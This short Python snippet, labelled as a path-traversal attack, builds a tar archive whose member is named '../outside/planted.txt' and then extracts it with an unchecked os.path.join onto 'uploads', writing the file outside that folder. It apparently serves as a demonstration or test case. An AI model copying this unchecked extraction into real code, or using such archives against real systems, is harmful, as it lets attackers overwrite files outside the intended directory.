# attack: path-traversal
import io, os, tarfile
data = io.BytesIO()
with tarfile.open(fileobj=data, mode="w") as tar:
    member = tarfile.TarInfo("../outside/planted.txt")
    member.size = 1
    tar.addfile(member, io.BytesIO(b"x"))
data.seek(0)
with tarfile.open(fileobj=data) as tar:
    for member in tar:
        path = os.path.join("uploads", member.name)
        with open(path, "wb") as file:
            file.write(tar.extractfile(member).read())
